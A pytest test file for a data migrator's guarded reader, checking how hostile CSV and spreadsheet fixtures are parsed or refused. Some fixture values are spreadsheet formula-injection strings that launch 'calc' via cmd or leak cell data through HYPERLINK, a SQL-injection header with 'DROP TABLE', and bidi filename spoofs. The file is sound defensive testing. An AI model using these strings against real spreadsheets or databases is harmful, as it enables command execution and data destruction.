"""Every hostile text file against what its manifest expects, through the guarded reader."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from migrator.errors import SourceError
from migrator.model.source import SourceTable
from migrator.sources.base import row_schema
from migrator.sources.isolate import Isolated
from migrator.sources.opening import open_source
from migrator.store.staging import Staging
from tests.unit.sources.reading import Content, gather

MIB = 2**20


def opened(path: Path) -> tuple[SourceTable, Content, int]:
    """The only table of a file, all its content, and the child's peak memory in MiB."""
    source = open_source(str(path))
    try:
        (table,) = source.discover()
        content = gather(source.read(table.name))
        assert isinstance(source, Isolated)
        return table, content, source.peak_bytes // MIB
    finally:
        source.close()


def names(table: SourceTable) -> list[str]:
    return [column.name for column in table.columns]


PLAIN = [
    ("c01_bom_utf8.csv", ["id", "name", "city"], [("1", "Zoë", "Köln")]),
    ("c02_utf16le_bom.csv", ["id", "name", "city"], [("1", "Zoë", "Köln")]),
    ("c03_utf16le_nobom.csv", ["id", "name", "city"], [("1", "Zoë", "Köln")] * 50),
    ("c04_cp1252.csv", ["id", "name", "city"], [("1", "Renée – €5", "“Köln”")]),
    (
        "c07_embedded_newlines.csv",
        ["id", "name", "note"],
        [("1", "A", "line1\r\nline2\nline3\rline4"), ("2", "B", 'say "hi", ok')],
    ),
    (
        "c08_dup_headers.csv",
        ["email", "email_2", "Email_3", "email_4"],
        [("a@x", "b@x", "c@x", "d@x")],
    ),
    ("c09_empty_headers.csv", ["id", "column_2", "column_3", "name"], [("1", "2", "3", "4")]),
    (
        "c15_bidi_homoglyph.csv",
        ["id", "name", "city"],
        [
            ("1", "admin\u202egpj.exe", "Paris"),
            ("2", "\u0410lice", "\u0420aris"),
            ("3", "Bo\u200bb", "X\u2066y\u2069"),
        ],
    ),
    (
        "c17_formula.csv",
        ["id", "name"],
        [
            ("1", '=HYPERLINK("http://x/?"&A1)'),
            ("2", "+1+cmd|' /C calc'!A0"),
            ("3", "-2+3"),
            ("4", "@SUM(A1)"),
            ("5", "\t=1"),
            ("6", "\uff1d1"),
            ("7", "-42"),
            ("8", "+49 30 1234"),
        ],
    ),
    ("c19_header_only.csv", ["id", "name"], []),
    ("c20_no_final_newline.csv", ["id", "name"], [("1", "a"), ("2", "b")]),
    ("c21_mixed_eol.csv", ["id", "name"], [("1", "a"), ("2", "b"), ("3", "c"), ("4", "d")]),
    (
        "c22_semicolon_decimal.csv",
        ["id", "amount", "date"],
        [("1", "1.234,50", "03/04/2021"), ("2", "7,00", "31/12/2020")],
    ),
    (
        "c23_coercion.csv",
        ["zip", "phone", "sku", "acct", "flag", "gene", "isbn", "na"],
        [
            ("00123", "0049301234", "1E5", "12345678901234567890", "TRUE", "MARCH1", "978-0", "NA"),
            ("02134", "+49 30", "2e10", "9007199254740993", "no", "SEPT2", "1/2", "null"),
        ],
    ),
    (
        "c25_spaces.csv",
        ["id", "name"],
        [
            ("1", "Ann "),
            ("2", "\u00a0Ann"),
            ("3", "Ann\u200b"),
            ("4", "Ann\t"),
            ("5", "Ann\u3000"),
        ],
    ),
    (
        "c26_nfc_nfd.csv",
        ["id", "name"],
        [("1", "Jos\u00e9"), ("2", "Jose\u0301"), ("3", "\ufb01n"), ("4", "fin")],
    ),
    ("c28_html_as_xls.xls", ["id", "name"], [("1", "a")]),
    (
        "c33_formula_header.csv",
        ["=cmd|'/C calc'!A0", 'id"; DROP TABLE x;--', "a.b[c]`d`"],
        [("1", "2", "3")],
    ),
]


@pytest.mark.parametrize(("file", "columns", "rows"), PLAIN, ids=[case[0] for case in PLAIN])
def test_file_is_read_to_the_letter(
    hostile: Path, file: str, columns: list[str], rows: list[tuple[str, ...]]
) -> None:
    table, content, _ = opened(hostile / file)
    assert names(table) == columns
    assert content.rows == rows
    assert content.ordinals == list(range(1, len(rows) + 1))
    assert not content.unreadable
    assert not content.notes


REFUSED = [
    ("c10_wide_16385.csv", "16,384 columns", 10),
    ("c11_wide_200k.csv", "16,384 columns", 10),
    ("c18_empty.csv", "is empty", 1),
    ("c27_fake_ext.csv", "ZIP archive or a damaged Excel file", 1),
    ("c29_random.csv", "is not a text file", 5),
    ("c30_gzip_bomb.csv.gz", "200 times its packed size", 20),
    ("c31_only_quotes.csv", "first line is longer than 256 KiB", 5),
    ("c32_only_delims.csv", "16,384 columns", 5),
]


@pytest.mark.parametrize(("file", "why", "seconds"), REFUSED, ids=[case[0] for case in REFUSED])
def test_file_is_refused_in_one_sentence(
    hostile: Path, file: str, why: str, seconds: float
) -> None:
    begun = time.monotonic()
    source = None
    with pytest.raises(SourceError) as caught:  # noqa: PT012 - opening or listing may refuse
        source = open_source(str(hostile / file))
        source.discover()
    assert time.monotonic() - begun < seconds
    assert why in caught.value.message
    assert file in caught.value.message
    if source is not None:
        assert isinstance(source, Isolated)
        assert 0 < source.peak_bytes < 500 * MIB
        source.close()


def test_one_line_of_another_encoding_is_set_aside_with_its_byte(hostile: Path) -> None:
    _, content, _ = opened(hostile / "c05_mixed_enc.csv")
    assert content.rows == [("1", "Zoë", "Köln"), ("3", "Søren", "Århus")]
    assert content.ordinals == [1, 3]
    (bad,) = content.unreadable
    assert (bad.ordinal, bad.line, bad.code) == (2, 3, "undecodable_bytes")
    data = (hostile / "c05_mixed_enc.csv").read_bytes()
    assert f"offset {data.index(bytes([0xE9]))}" in bad.detail
    assert bad.text == r"2,Ren\xe9e,M\xfcnchen"


def test_nul_is_noted_and_removed(hostile: Path) -> None:
    _, content, _ = opened(hostile / "c06_nul_bytes.csv")
    assert content.rows == [("1", "Alice", "X"), ("2", "Bob", "Y")]
    assert [(n.ordinal, n.column, n.code, n.value) for n in content.notes] == [
        (1, 2, "nul_character", "Alice")
    ]


def test_renamed_headers_are_told_and_kept(hostile: Path) -> None:
    table, _, _ = opened(hostile / "c08_dup_headers.csv")
    assert [column.header for column in table.columns] == ["email", "email", "Email", " email"]
    assert any("email_2" in warning for warning in table.warnings)


def test_ragged_rows_are_accounted_for(hostile: Path) -> None:
    table, content, _ = opened(hostile / "c12_ragged.csv")
    assert content.rows == [("1", "a", None), ("3", "e", "f"), ("4", "g", "h")]
    assert content.codes == [(2, "too_many_cells")]
    assert content.unreadable[0].text == "2,b,c,d"
    assert content.unreadable[0].line == 3
    assert [(n.ordinal, n.column, n.code) for n in content.notes] == [(1, 3, "too_few_cells")]
    assert table.rows == 4


def test_unclosed_quote_costs_one_line(hostile: Path) -> None:
    table, content, peak = opened(hostile / "c13_unclosed_quote.csv")
    (bad,) = content.unreadable
    assert (bad.ordinal, bad.line, bad.code, bad.text) == (2, 3, "unreadable_record", '2,"oops,c')
    assert len(content.rows) == 199_998
    assert content.rows[1] == ("3", "n3", "c")
    assert content.rows[-1] == ("199999", "n199999", "c")
    assert any("line 3" in warning for warning in table.warnings)
    assert peak < 500


def test_huge_field_is_set_aside_and_reading_goes_on(hostile: Path) -> None:
    _, content, peak = opened(hostile / "c14_huge_field.csv")
    assert content.codes == [(1, "field_too_large")]
    assert len(content.unreadable[0].text) == 500
    assert content.rows == [("2", "ok")]
    assert content.ordinals == [2]
    assert 0 < peak < 500


def test_surrogates_and_overlong_bytes_are_set_aside(hostile: Path) -> None:
    _, content, _ = opened(hostile / "c16_lone_surrogate.csv")
    assert content.rows == [("2", "😀ok")]
    assert [(b.ordinal, b.line, b.code) for b in content.unreadable] == [
        (1, 2, "undecodable_bytes"),
        (3, 4, "undecodable_bytes"),
    ]
    assert "offset 11" in content.unreadable[0].detail
    assert content.unreadable[1].text == r"3,\xc0\xafx"


def test_header_only_warns(hostile: Path) -> None:
    table, _, _ = opened(hostile / "c19_header_only.csv")
    assert table.rows == 0
    assert "The table has a header and no records." in table.warnings


def test_late_change_of_type_changes_nothing(hostile: Path) -> None:
    _, content, _ = opened(hostile / "c24_late_type.csv")
    assert len(content.rows) == 150_002
    assert content.rows[-2:] == [("150000", "N/A"), ("150001", "12-3")]
    assert not any(cell is None for row in content.rows for cell in row)


def test_guessed_types_of_what_type_guessers_destroy(hostile: Path) -> None:
    table, _, _ = opened(hostile / "c23_coercion.csv")
    kinds = {column.name: str(column.type) for column in table.columns}
    assert kinds.pop("flag") == "boolean"
    assert set(kinds.values()) == {"text"}
    table, _, _ = opened(hostile / "c22_semicolon_decimal.csv")
    assert [str(c.type) for c in table.columns] == ["integer", "decimal", "date"]


def test_injection_in_headers_reaches_staging_as_data(hostile: Path) -> None:
    source = open_source(str(hostile / "c33_formula_header.csv"))
    (table,) = source.discover()
    staging = Staging(None)
    batches = (batch.rows for batch in source.read(table.name))
    assert staging.write("raw_1", row_schema(3), batches) == 1
    assert staging.rows("select c1, c2, c3 from raw_1") == [("1", "2", "3")]
    staging.close()
    source.close()


def test_every_text_file_of_the_manifest_is_tested(hostile: Path) -> None:
    manifest = json.loads((hostile.parent / "manifest.json").read_text(encoding="utf-8"))
    here = Path(__file__).read_text(encoding="utf-8")
    assert [name for name in manifest if name.startswith("c") and f'"{name}"' not in here] == []
